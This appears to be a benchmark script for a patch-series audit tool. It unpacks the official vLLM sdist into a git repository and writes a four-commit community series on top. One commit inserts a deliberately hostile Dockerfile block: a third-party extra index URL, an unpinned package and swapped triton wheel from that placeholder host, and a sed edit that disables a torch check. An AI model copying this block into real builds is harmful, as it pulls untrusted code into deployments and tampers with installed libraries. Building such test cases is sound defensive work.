"""A real-input case: the official vLLM sdist from the package index plus a community series.

    python benchmarks/real_vllm.py [--version 0.10.0] [--work benchmarks/work/real] [--lock]

Downloads the sdist file of ``vllm==VERSION`` (pip's own PackageFinder gives its address from the
configured index; ``pip download --no-binary`` would try to build it), unpacks it into an upstream
repository tagged ``vVERSION``, and writes on top a four-commit community series with the shapes a
reviewer meets on real patch sets:

1. docker/Dockerfile: the runtime stage exports a third-party ``PIP_EXTRA_INDEX_URL``, installs an
   unpinned package from it, swaps triton for a third-party build and rewrites installed torch files
   with ``sed -i`` under dist-packages (the four red flags of issue 14);
2. CMakeLists.txt: adds sm86 to the supported CUDA architectures (benign);
3. vllm/envs.py: a new token-count environment variable (benign; precision);
4. csrc/activation_kernels.cu: a kernel tweak (benign).

Then a bundle tarball of the patched tree, ``series.txt``, a small OSV snapshot dated today and
``audit.toml`` (``[engine] target = "cuda"``). With ``--lock`` it also resolves the closure of
``vllm==VERSION`` and the sdist's build requirements with ``pip install --dry-run
--ignore-installed --report`` into ``vllm.lock`` (hash-pinned requirements; needs the package
index, about a minute) and names it in the spec (``[deps] lock = "vllm.lock"``). Prints the
spec's path.
"""

from __future__ import annotations

import argparse
import datetime as dt
import json
import os
import shutil
import subprocess
import sys
import tarfile
import urllib.request
from pathlib import Path

HERE = Path(__file__).resolve().parent

GIT_ENV = {
    "GIT_AUTHOR_NAME": "vLLM upstream", "GIT_AUTHOR_EMAIL": "upstream@example.invalid",
    "GIT_COMMITTER_NAME": "vLLM upstream", "GIT_COMMITTER_EMAIL": "upstream@example.invalid",
    "GIT_AUTHOR_DATE": "2025-07-24T12:00:00Z", "GIT_COMMITTER_DATE": "2025-07-24T12:00:00Z",
    "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_NOSYSTEM": "1",
}
FORK_ENV = {
    **GIT_ENV,
    "GIT_AUTHOR_NAME": "sm86-fan", "GIT_AUTHOR_EMAIL": "sm86@example.invalid",
    "GIT_COMMITTER_NAME": "sm86-fan", "GIT_COMMITTER_EMAIL": "sm86@example.invalid",
}

HOSTILE_RUNTIME = """
# sm86: faster kernels from our own wheel index
ENV PIP_EXTRA_INDEX_URL=https://wheels.sm86-kernels.example/simple
RUN --mount=type=cache,target=/root/.cache/uv \\
    pip install sm86-fastkernels && \\
    python3 -m sm86_fastkernels.swap triton
RUN pip uninstall -y triton && \\
    pip install --no-deps https://wheels.sm86-kernels.example/triton-3.3.0+sm86-cp312-cp312-linux_x86_64.whl
RUN sed -i 's/_check_capability()/pass/' \\
    /usr/local/lib/python3.12/dist-packages/torch/cuda/__init__.py
"""

ENVS_ADDITION = """    # Token threshold above which the sm86 sparse kernels are used.
    "VLLM_SM86_SPARSE_TOKEN_THRESHOLD":
    lambda: int(os.getenv("VLLM_SM86_SPARSE_TOKEN_THRESHOLD", "256")),
"""


def sdist_url(version: str) -> str:
    """The sdist's address on the configured index, from pip's own PackageFinder."""
    from pip._internal.index.collector import LinkCollector
    from pip._internal.index.package_finder import PackageFinder
    from pip._internal.models.index import PyPI
    from pip._internal.models.search_scope import SearchScope
    from pip._internal.models.selection_prefs import SelectionPreferences
    from pip._internal.network.session import PipSession

    scope = SearchScope.create(find_links=[], index_urls=[PyPI.simple_url], no_index=False)
    finder = PackageFinder.create(LinkCollector(PipSession(), scope),
                                  SelectionPreferences(allow_yanked=False))
    for cand in finder.find_all_candidates("vllm"):
        if str(cand.version) == version and cand.link.filename.endswith(".tar.gz"):
            return str(cand.link.url)
    raise SystemExit(f"no sdist of vllm=={version} on the index")


def fetch_sdist(version: str, cache: Path) -> Path:
    target = cache / f"vllm-{version}.tar.gz"
    if not target.is_file():
        cache.mkdir(parents=True, exist_ok=True)
        url = sdist_url(version)
        print(f"downloading {url}", file=sys.stderr)
        tmp = target.with_suffix(".part")
        urllib.request.urlretrieve(url, tmp)  # noqa: S310 - the index's https address
        tmp.rename(target)
    return target


def git(cwd: Path, *args: str, env: dict[str, str] | None = None) -> str:
    res = subprocess.run(["git", *args], cwd=cwd, env={**os.environ, **(env or GIT_ENV)},
                         capture_output=True, text=True, check=True)
    return res.stdout.strip()


def commit(work: Path, message: str) -> str:
    git(work, "add", "-A", env=FORK_ENV)
    git(work, "commit", "-q", "-m", message, env=FORK_ENV)
    return git(work, "rev-parse", "HEAD")


def edit(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    if old not in text:
        raise SystemExit(f"{path}: anchor not found: {old[:60]!r}")
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def write_series(work: Path) -> list[tuple[str, str]]:
    series = []
    docker = work / "docker" / "Dockerfile"
    anchor = "# If we need to build FlashInfer wheel before its release:"
    edit(docker, anchor, HOSTILE_RUNTIME.lstrip("\n") + "\n" + anchor)
    series.append((commit(work, "docker: faster sm86 kernels in the runtime image"),
                   "docker: faster sm86 kernels in the runtime image"))
    edit(work / "CMakeLists.txt", 'set(CUDA_SUPPORTED_ARCHS "7.0;7.2;7.5;8.0;8.6;8.7;8.9;9.0")',
         'set(CUDA_SUPPORTED_ARCHS "7.0;7.2;7.5;8.0;8.6;8.7;8.9;9.0")  # sm86 sparse kernels')
    series.append((commit(work, "cmake: note sm86 sparse kernels"), "cmake: note sm86 sparse kernels"))
    edit(work / "vllm" / "envs.py", '    "VLLM_NO_USAGE_STATS":\n',
         ENVS_ADDITION + '    "VLLM_NO_USAGE_STATS":\n')
    series.append((commit(work, "envs: sm86 sparse token threshold"),
                   "envs: sm86 sparse token threshold"))
    cu = work / "csrc" / "activation_kernels.cu"
    edit(cu, "  const int64_t token_idx = blockIdx.x;",
         "  const int64_t token_idx = blockIdx.x;  // one block per token (sm86)")
    series.append((commit(work, "kernels: sm86 comment"), "kernels: sm86 comment"))
    return series


def osv_snapshot(root: Path) -> Path:
    snap = root / "osv-snapshot"
    snap.mkdir()
    today = dt.datetime.now(dt.UTC).strftime("%Y-%m-%dT00:00:00Z")
    record = {
        "schema_version": "1.6.0", "id": "REAL-CASE-0001", "modified": today, "published": today,
        "summary": "example advisory for a package this case does not use",
        "affected": [{"package": {"ecosystem": "PyPI", "name": "not-a-vllm-dependency"},
                      "ranges": [{"type": "ECOSYSTEM",
                                  "events": [{"introduced": "0"}, {"fixed": "9.9"}]}]}],
    }
    (snap / "REAL-CASE-0001.json").write_text(json.dumps(record, indent=2), encoding="utf-8")
    return snap


def build_requires(tree: Path) -> list[str]:
    """``[build-system] requires`` of the sdist: the build tools are part of what is deployed."""
    import tomllib

    doc = tomllib.loads((tree / "pyproject.toml").read_text(encoding="utf-8"))
    return [str(r) for r in doc.get("build-system", {}).get("requires", [])]


def resolve_lock(version: str, out: Path, extra: list[str] | None = None) -> None:
    """The closure of vllm==VERSION (plus ``extra``, its build requirements) as hash-pinned
    requirements (needs the index). The header names the Python it was resolved with, as
    pip-compile's does, so markers are evaluated for that environment."""
    report = out.with_suffix(".report.json")
    subprocess.run([sys.executable, "-m", "pip", "install", "--quiet", "--dry-run",
                    "--ignore-installed", "--report", str(report), f"vllm=={version}",
                    *(extra or [])], check=True)
    data = json.loads(report.read_text(encoding="utf-8"))
    env = data.get("environment", {})
    lines = [f"# closure of vllm=={version} and its build requirements, resolved by pip "
             f"--dry-run --report with Python {env.get('python_version', '?')} on "
             f"{env.get('sys_platform', '?')} {env.get('platform_machine', '?')}"]
    for item in sorted(data["install"], key=lambda i: i["metadata"]["name"].lower()):
        meta = item["metadata"]
        sha = item.get("download_info", {}).get("archive_info", {}).get("hashes", {}).get("sha256")
        line = f"{meta['name']}=={meta['version']}"
        lines.append(f"{line} --hash=sha256:{sha}" if sha else line)
    out.write_text("\n".join(lines) + "\n", encoding="utf-8")


def sdist_repository(version: str, work: Path) -> tuple[Path, str]:
    """WORK afresh, with ``src/``: the official sdist of VERSION unpacked as a git repository
    whose one commit is tagged ``v<VERSION>``; returns the tree and that commit."""
    sdist = fetch_sdist(version, HERE / "work" / "downloads")
    if work.exists():
        shutil.rmtree(work)
    (work / "mirrors").mkdir(parents=True)
    tree = work / "src"
    with tarfile.open(sdist) as tar:
        tar.extractall(work / "unpacked", filter="data")
    (work / "unpacked" / f"vllm-{version}").rename(tree)
    shutil.rmtree(work / "unpacked")
    git(tree, "init", "-q", "-b", "main")
    git(tree, "add", "-A")
    git(tree, "commit", "-q", "-m", f"vLLM {version} (official sdist)")
    git(tree, "tag", f"v{version}")
    return tree, git(tree, "rev-parse", "HEAD")


def build(version: str, work: Path, *, lock: bool) -> Path:
    tree, upstream = sdist_repository(version, work)
    build_reqs = build_requires(tree)
    git(tree, "checkout", "-q", "-b", "sm86")
    series = write_series(tree)
    git(work, "clone", "-q", "--mirror", str(tree), "mirrors/vllm.git")
    (work / "series.txt").write_text("".join(f"{sha} {subj}\n" for sha, subj in series),
                                     encoding="utf-8")
    (work / "downloads").mkdir()
    bundle = work / "downloads" / f"vllm-{version}-sm86.tar.gz"
    subprocess.run(["git", "archive", "--format=tar.gz", f"--prefix=vllm-{version}-sm86/",
                    "-o", str(bundle), "HEAD"], cwd=tree, check=True)
    shutil.rmtree(tree)
    osv_snapshot(work)
    spec_lines = [
        "[engine]", 'profile = "vllm"', f'version = "{version}"', 'target = "cuda"', "",
        "[upstream]", 'repo = "mirrors/vllm.git"', f'ref = "v{version}"', f'commit = "{upstream}"', "",
        "[patches]", 'ref = "sm86"', 'commits_file = "series.txt"', "",
        "[bundle]", f'path = "downloads/{bundle.name}"', "strip_components = 1", "",
        "[scan]", 'scope = "diff"', "",
        "[deps]", 'vulns = "osv:osv-snapshot"', *(['lock = "vllm.lock"'] if lock else []), "",
        "[service]", 'name = "vllm"', 'model = "/srv/models/llama-3-8b"',
        'api_key_file = "/etc/vllm/api-key.env"', 'client_networks = ["10.20.0.0/16"]', "",
    ]
    if lock:
        resolve_lock(version, work / "vllm.lock", build_reqs)
    spec = work / "audit.toml"
    spec.write_text("\n".join(spec_lines), encoding="utf-8")
    return spec


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--version", default="0.10.0")
    ap.add_argument("--work", type=Path, default=HERE / "work" / "real")
    ap.add_argument("--lock", action="store_true", help="resolve vllm.lock (needs the index)")
    args = ap.parse_args()
    print(build(args.version, args.work.resolve(), lock=args.lock))


if __name__ == "__main__":
    main()
